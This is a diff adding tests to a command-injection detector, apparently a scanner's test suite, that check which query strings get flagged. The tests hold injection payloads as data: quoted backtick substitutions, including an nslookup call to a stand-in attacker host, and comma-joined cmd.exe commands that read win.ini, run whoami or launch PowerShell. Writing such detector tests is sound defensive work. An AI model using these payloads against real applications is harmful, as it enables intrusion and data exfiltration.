@@ -1109,3 +1109,29 @@ describe('cmdi round 9: IF x == y waits for the command cmd.exe would run; "or"/
     expectSameWhenSplit(d, [input], 'query');
   });
 });
+
+describe('cmdi round 10: a quote opening the value, then a backtick substitution, runs it inside "…"', () => {
+  it.each(["'`sleep 5`", '"`pwd`', "'`pwd`&", "\"`nslookup x.attacker.test`'", "'`s'l'eep 5`", "x'`ps aux`#", "'`echo vulnerable` #",
+    "'`sleep 5`'", '"`ls -la`"', "'`true`'"])('%s is flagged', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.command-substitution');
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  // (a weak word alone in a quoted span is a code span quoted in prose, as it is unquoted: `date`)
+  it.each(["'`date`'", '"`sleep`"', "x '`date`'", "'`type`' is required", '"`date` is the field"', '"`npm install`" first', '"`npm`"', "'`date`"])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi round 10: cmd.exe reads a comma between a command and its arguments as a space', () => {
+  it.each(['&dir,c:\\', '|type,C:\\Windows\\win.ini', '&ipconfig,/all', '&ping,-n,5,127.0.0.1', '&&cmd,/c,whoami', '1||timeout,/t,5',
+    '"&powershell,-c,Get-Process', '\r\ndir,c:\\', '&type,\\x\\y'])('%s is flagged', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.chained-command');
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['x|sort,uniq', 'A|Echo,B', 'x&type,y', 'x|sort,', 'Size|Sort,/asc', 'Rating|Sort,-price', 'Gross|Net,Tax', 'id,name|time,date',
+    'S&P 500|Dir,Notes', 'Copy&copy,2024', 'a|dir,d', 'Name | Date, Time'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
